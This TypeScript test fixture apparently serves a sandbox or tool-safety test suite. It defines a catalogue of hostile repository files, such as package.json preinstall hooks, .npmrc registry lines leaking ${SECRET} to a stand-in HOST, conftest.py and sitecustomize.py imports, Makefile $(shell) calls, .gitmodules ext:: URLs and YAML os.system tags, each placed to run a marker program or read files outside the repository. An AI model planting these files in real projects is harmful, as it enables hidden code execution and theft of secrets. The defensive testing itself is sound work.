/**
 * Files of a repository that try to make tools run code, read elsewhere or contact a host. `EVIL` is
 * an executable that leaves a mark, `OUT` a folder outside the repository, `HOST` a closed port.
 */
export const HOSTILE_FILES: Readonly<Record<string, string>> = {
  // Node.js
  '.npmrc':
    'cache=OUT/cache\nlogs-dir=OUT/logs\nregistry=http://HOST/${SECRET}/\nscript-shell=EVIL\nnode-options=--require ./evil.cjs\nviewer=browser\nbrowser=EVIL\n',
  '.yarnrc': 'yarn-path "./evil.cjs"\nregistry "http://HOST/"\n',
  '.yarnrc.yml': 'yarnPath: ./evil.cjs\nplugins:\n  - ./evil.cjs\n',
  '.pnpmfile.cjs': "require('./evil.cjs');\n",
  'pnpm-workspace.yaml': "packages: ['*']\n",
  'package.json':
    '{"name":"x","version":"1.0.0","type":"commonjs","packageManager":"yarn@9.9.9","scripts":{"preinstall":"EVIL"},"volta":{"node":"1.2.3"},"dependencies":{"left":"1.0.0"},"eslintConfig":{"plugins":["evil"]},"prettier":"./evil.cjs","jest":{"globalSetup":"./evil.cjs"}}\n',
  'evil.cjs': "require('node:child_process').execFileSync('EVIL');\n",
  'evil.js': "require('node:child_process').execFileSync('EVIL');\n",
  'bunfig.toml': 'preload = ["./evil.js"]\n[install]\nregistry = "http://HOST/"\n',
  'deno.json':
    '{"tasks":{"x":"EVIL"},"imports":{"x":"http://HOST/x.ts"},"plugins":["./evil.js"]}\n',
  '.nvmrc': '1.2.3\n',
  '.node-version': '1.2.3\n',
  '.tool-versions': 'nodejs path:./bin\npython path:./bin\nruby path:./bin\njava path:./bin\n',
  'mise.toml': '[tools]\nnode = "path:./bin"\n[hooks]\nenter = "EVIL"\n',
  '.prettierrc.js': "require('./evil.cjs');\n",
  '.eslintrc.js': "require('./evil.cjs');\n",
  'eslint.config.js': "require('./evil.cjs');\n",
  'jest.config.js': "require('./evil.cjs');\n",
  'tsconfig.json':
    '{"extends":"OUT/tsconfig.json","compilerOptions":{"plugins":[{"name":"./evil.js"}]}}\n',
  'node_modules/jest/bin/jest.js': "require('../../../evil.cjs');\n",
  'node_modules/eslint/bin/eslint.js': "require('../../../evil.cjs');\n",
  'node_modules/prettier/index.js': "require('../../evil.cjs');\n",
  'node_modules/typescript/lib/tsc.js': "require('../../../evil.cjs');\n",
  'node_modules/npm/index.js': "require('../../evil.cjs');\n",
  // Python
  'pyproject.toml':
    '[tool.pytest.ini_options]\naddopts = "-p evil"\npythonpath = "."\n[tool.mypy]\nplugins = ["./evil.py"]\n[tool.black]\nextend-exclude = "("\n[tool.poetry.requires-plugins]\nevil = "*"\n',
  'evil.py': "import os\nos.system('EVIL')\n",
  'conftest.py': 'import evil\n',
  'sitecustomize.py': 'import evil\n',
  'usercustomize.py': 'import evil\n',
  'json.py': 'import evil\n',
  'argparse.py': 'import evil\n',
  'pip.py': 'import evil\n',
  'mypy.py': 'import evil\n',
  'black.py': 'import evil\n',
  'pip.conf': '[global]\nindex-url = http://HOST/\nlog = OUT/pip.log\n',
  'pytest.ini': '[pytest]\naddopts = -p evil\n',
  'setup.cfg':
    '[flake8:local-plugins]\nextension = X = evil:X\npaths = .\n[mypy]\nplugins = ./evil.py\n',
  'setup.py': 'import evil\n',
  'tox.ini': '[tox]\nrequires = evil\n[testenv]\ncommands = EVIL\n',
  'noxfile.py': 'import evil\n',
  'mypy.ini': '[mypy]\nplugins = ./evil.py\n',
  '.flake8': '[flake8:local-plugins]\nextension = X = evil:X\npaths = .\n',
  'pyvenv.cfg': 'home = ./bin\n',
  '.python-version': '../../bin\n',
  // Other languages and their build tools
  Gemfile: "system('EVIL')\n",
  'Gemfile.lock': 'BUNDLED WITH\n   99.0.0\n',
  '.bundle/config': '---\nBUNDLE_PATH: "OUT/bundle"\n',
  '.gemrc': 'gem: --config-file ./evil\n',
  '.ruby-version': '1.2.3\n',
  '.irbrc': "system('EVIL')\n",
  '.rspec': '--require ./evil.rb\n',
  'evil.rb': "system('EVIL')\n",
  'composer.json':
    '{"name":"x/x","scripts":{"post-autoload-dump":"EVIL"},"config":{"allow-plugins":true}}\n',
  'php.ini': 'auto_prepend_file=./evil.php\nextension=./evil.so\n',
  '.user.ini': 'auto_prepend_file=./evil.php\n',
  'evil.php': "<?php system('EVIL');\n",
  'strict.pm': "system('EVIL'); 1;\n",
  '.perltidyrc': '-b\n',
  'rust-toolchain.toml': '[toolchain]\npath = "./bin"\n',
  '.cargo/config.toml':
    '[alias]\nversion = "run"\n[build]\nrustc = "./bin/rustc"\nrustc-wrapper = "EVIL"\n',
  'Cargo.toml': '[package]\nname = "x"\nversion = "1.0.0"\nbuild = "build.rs"\n',
  'go.mod': 'module x\n\ngo 99.0\n\ntoolchain go99.0.1\n',
  'go.work': 'go 99.0\n\nuse .\n',
  '.mvn/jvm.config': '-javaagent:OUT/evil.jar\n',
  '.mvn/extensions.xml': '<extensions/>\n',
  '.hotspotrc': '+UnlockDiagnosticVMOptions\nOnOutOfMemoryError=EVIL\n',
  JDK_JAVA_OPTIONS: '-javaagent:evil.jar\n',
  'gradle.properties': 'org.gradle.java.home=./bin\n',
  'build.gradle': '"EVIL".execute()\n',
  Makefile: 'X := $(shell EVIL)\nall:\n\tEVIL\n',
  GNUmakefile: 'X := $(shell EVIL)\ninclude OUT/secret.txt\n',
  'CMakeLists.txt': 'execute_process(COMMAND EVIL)\n',
  'CMakePresets.json': '{"version":3,"include":["OUT/presets.json"]}\n',
  'build.ninja': 'rule x\n  command = EVIL\nbuild all: x\n',
  '.bazelrc': 'startup --host_jvm_args=-javaagent:evil.jar\nimport OUT/bazelrc\n',
  '.clang-format': 'BasedOnStyle: file:OUT/style\n',
  'clang.cfg': '-fplugin=./evil.so\n',
  '.erlang': 'os:cmd("EVIL").\n',
  'ansible.cfg': '[defaults]\ncallback_plugins = .\nvault_password_file = EVIL\n',
  'docker-compose.yml':
    'include:\n  - https://HOST/x.yml\nservices:\n  x:\n    env_file: OUT/secret.txt\n    build: .\n',
  '.docker/config.json': '{"credsStore":"evil","currentContext":"evil"}\n',
  // Shells, editors and command line tools
  '.bashrc': 'EVIL\n',
  '.profile': 'EVIL\n',
  '.zshenv': 'EVIL\n',
  '.zshrc': 'EVIL\n',
  '.inputrc': '$include OUT/secret.txt\n',
  '.envrc': 'EVIL\n',
  '.vimrc': ':silent !EVIL\n',
  '.exrc': ':silent !EVIL\n',
  '.curlrc': 'url = http://HOST/\noutput = OUT/x\n',
  '.wgetrc': 'use_askpass = EVIL\n',
  '.psqlrc': '\\! EVIL\n',
  '.sqliterc': '.shell EVIL\n',
  '.my.cnf': '[client]\npager=EVIL\nplugin-dir=.\n',
  '.shellcheckrc': 'external-sources=true\nsource-path=OUT\n',
  '.ripgreprc': '--pre=EVIL\n--follow\n',
  '.jq': 'def map(f): env;\n',
  'env.jq': 'def x: env;\n',
  '.toprc': '|EVIL\n',
  '.lessfilter': '#!/bin/sh\nEVIL\n',
  '.magic': '0 string x evil\n',
  '.dircolors': 'TERM EVIL\n',
  '.editorconfig': 'root = true\n',
  // Git, as far as a clone brings it
  '.gitattributes': '* diff=evil filter=evil merge=evil text=auto\n',
  '.gitmodules':
    '[submodule "sub"]\n\tpath = sub\n\turl = ext::EVIL\n\tupdate = !EVIL\n\tignore = none\n\tfetchRecurseSubmodules = true\n',
  '.gitconfig': '[core]\n\tfsmonitor = EVIL\n\tpager = EVIL\n[alias]\n\tst = !EVIL\n',
  '.lfsconfig': '[lfs]\n\turl = http://HOST/\n\tstandalonetransferagent = evil\n',
  '.git-blame-ignore-revs': 'OUT/secret.txt\n',
  // Files that operands name
  'a.txt':
    'd41d8cd98f00b204e9800998ecf8427e  OUT/secret.txt\nOUT/secret.txt\n.so OUT/secret.txt\n@OUT/secret.txt\n--include=OUT/secret.txt\n',
  'script.sh':
    '#!/bin/bash\n# shellcheck source=OUT/secret.txt\nsource OUT/secret.txt\n. ./a.txt\nEVIL\n',
  'data.yml': 'a: !include OUT/secret.txt\nb: !!python/object/apply:os.system [EVIL]\n',
};

/** Programs of which the repository has copies of its own, in several folders. */
export const SHIMS =
  `git node npm npx python python3 pip ruby gem perl php java javac make cmake ninja gcc clang docker jq rg fd
  ls cat grep find sed awk gawk pr diff gzip bzip2 xz less more cat sh bash man col groff pager gpg ssh tsc eslint prettier
  mypy black shellcheck curl wget vim locale tput file dpkg-query getopt`.split(/\s+/);

/** Every hook that git knows, tracked or not. */
export const HOOKS =
  `applypatch-msg pre-applypatch post-applypatch pre-commit pre-merge-commit prepare-commit-msg commit-msg
  post-commit pre-rebase post-checkout post-merge pre-push pre-receive update post-update reference-transaction
  push-to-checkout pre-auto-gc post-rewrite fsmonitor-watchman post-index-change query-watchman`.split(
    /\s+/,
  );
